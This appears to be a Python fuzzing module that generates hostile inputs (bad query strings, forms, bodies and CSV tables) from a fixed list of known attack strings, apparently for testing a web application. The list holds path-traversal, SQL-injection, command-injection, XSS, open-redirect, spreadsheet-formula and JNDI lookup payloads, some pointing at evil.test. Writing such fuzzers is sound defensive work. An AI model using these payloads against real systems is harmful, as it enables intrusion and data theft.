"""What nobody of good will writes: words, forms, headers and tables, the same on every run."""

from __future__ import annotations

import json
from random import Random
from urllib.parse import quote, quote_from_bytes

NASTY = (
    *(
        "",
        " ",
        ".",
        "..",
        "../..",
        "../../../etc/passwd",
        "..\\..\\boot.ini",
        "C:\\x",
        "~root",
        "-rf",
    ),
    *(
        "%2e%2e%2f",
        "%252e%252e%252f",
        "..%c0%af..",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "\r\nX: y",
        "\0",
    ),
    *("a\0b", "\x1b[31m", "\x07", "\x7f", "\u202eevil", "\u2066x", "\ufeff", "\u200b", "\ufffe"),
    *(
        "é" * 40,
        "e" + "\u0301" * 300,
        "\U0001f600" * 30,
        "１２３４５６",
        "İ",
        "ß",
        "ﷺ" * 20,
        "𝕒𝕕𝕞𝕚𝕟",
    ),
    *(
        "' OR 1=1 --",
        "'; DROP TABLE people; --",
        '" OR ""="',
        "1) UNION ALL VALUES (1",
        "\\'",
        "%' ESCAPE '",
    ),
    *(
        "%s%s%n",
        "%(x)s",
        "{0}",
        "{0.__class__.__mro__}",
        "{minutes}",
        "{{7*7}}",
        "{% raw %}",
        "${7*7}",
    ),
    *(
        "${jndi:ldap://evil.test/a}",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "<!--#exec cmd='id'-->",
    ),
    *(
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "' autofocus onfocus='alert(1)",
    ),
    *(
        "![t](https://evil.test/p.png)",
        "[go](javascript:alert(1))",
        "<svg/onload=alert(1)>",
        "&lt;b&gt;",
    ),
    *(
        "javascript:alert(1)",
        "data:text/html,<b>x",
        "https://evil.test",
        "//evil.test",
        "/\\evil.test",
    ),
    *(
        "=cmd|'/c calc'!A0",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "null",
        "None",
        "undefined",
        "NaN",
        "true",
    ),
    *("0", "-1", "9" * 400, "1e309", "0x10", "x" * 5000, "[]", "{}", "__proto__", "constructor"),
)
"""Words that broke other programs."""


class Pest:
    """Makes hostile things from a seed."""

    def __init__(self, seed: int) -> None:
        self.chance = Random(seed)

    def one_of(self, *things):
        return self.chance.choice(things)

    def word(self) -> str:
        """Return a nasty word, two of them, or a random one."""
        kind = self.chance.randrange(10)
        if kind < 6:
            return self.one_of(*NASTY)
        if kind < 8:
            return self.one_of(*NASTY) + self.one_of(*NASTY)
        return "".join(chr(self._letter()) for _ in range(self.chance.randrange(30)))

    def _letter(self) -> int:
        """Return a code point that is no half of a pair: none comes in by an address."""
        top = self.one_of(0x20, 0x80, 0x800, 0xD800, 0x110000)
        at = self.chance.randrange(top)
        return at if not 0xD800 <= at < 0xE000 else 0x2028

    def raw(self, most: int = 60) -> bytes:
        return self.chance.randbytes(self.chance.randrange(most))

    def query(self, names: tuple[str, ...]) -> bytes:
        """Return a query string: names, words and things that are neither."""
        pairs = [
            f"{quote(self.one_of(*names, self.word()))}={self.encoded(self.word())}"
            for _ in range(self.chance.randrange(1, 4))
        ]
        joined = self.one_of("&", "&", ";", "&&").join(pairs).encode()
        return joined + self.one_of(
            b"", b"", b"&=", b"%", b"%zz", quote_from_bytes(self.raw()).encode()
        )

    def encoded(self, word: str) -> str:
        """Return a word as it stands in an address, now and then encoded twice."""
        once = quote(word, safe="")
        return quote(once, safe="") if self.chance.random() < 0.05 else once

    def form(self, right: dict[str, str]) -> bytes:
        """Return a form with one hostile field, or fields doubled, missing or of no known name."""
        if self.chance.random() < 0.6:
            return self._pairs(right | {self.one_of(*right): self.word()})
        fields = {name: value for name, value in right.items() if self.chance.random() < 0.9}
        more = {self.one_of("admin", "role", "__proto__", "name[]", self.word()): self.word()}
        ends = (b"", b"&a=%ed%a0%80", b"&a=%ff", b"\xff", b"&" * 30, b"&a=1" * 40, b"&email=b@c.de")
        return self._pairs(fields | more) + self.one_of(*ends)

    def _pairs(self, fields: dict[str, str]) -> bytes:
        return "&".join(
            f"{quote(name)}={self.encoded(value)}" for name, value in fields.items()
        ).encode()

    def body_of_form(self, right: dict[str, str]) -> tuple[bytes, bytes]:
        """Return a body and its content type, of which the one may not fit the other."""
        plain, many = b"application/x-www-form-urlencoded", b'multipart/form-data; boundary="x"'
        kind = self.chance.randrange(12)
        if kind < 8:
            return self.form(right), plain
        part = b'--x\r\nContent-Disposition: form-data; name="email"\r\n\r\na\r\n--x--'
        return self.one_of(
            (part, many),
            (part, b"multipart/form-data"),
            (json.dumps(right).encode(), b"application/json"),
            (
                self.form(right),
                self.one_of(b"", b"\xff", b"text/html", plain + b"; charset=utf-16"),
            ),
            (self.form(right), many),
            (self.raw(200), plain),
            (b"a=" + b"x" * 20_000, plain),
        )

    def value(self) -> object:
        """Return anything that JSON can hold."""
        return self.one_of(
            *(None, True, False, 0, -1, 1, 10**30, 1.5, float("inf"), float("nan"), [], {}, [[]]),
            *("\ud800", {"a": 1}, ["a"] * 20, self.word(), self.word(), self.word(), self.word()),
        )

    def table(self) -> bytes:
        """Return a list of people in which something is wrong, or nothing."""
        first = self.one_of(
            *["name,email,role"] * 6, "email,name", "name;email;role", "", self.word()
        )
        cells = [
            [
                self.one_of("Carla", self.word()),
                self.one_of("", "carla@example.net", f"{self.word()}@example.net"),
                self.one_of("", "trainer", "advocate", self.word()),
                *([self.word()] if self.chance.random() < 0.1 else []),
            ]
            for _ in range(self.chance.randrange(4))
        ]
        quoted = self.one_of("", "", '"')
        comma = self.one_of(",", ",", ",", ";", "\t", "|")
        lines = [first, *(comma.join(f"{quoted}{cell}{quoted}" for cell in row) for row in cells)]
        table = self.one_of("\n", "\r\n", "\r").join(lines)
        kind = self.chance.randrange(12)
        if kind == 0:
            return self.raw(400)
        if kind == 1:
            return table.encode("utf-16", "replace")
        if kind == 2:
            return table.encode() + self.one_of(
                b"\xff", b"\0", b'"', b"\n" * 5000, b",a@b.cc,\nx" * 20_000
            )
        return table.encode()
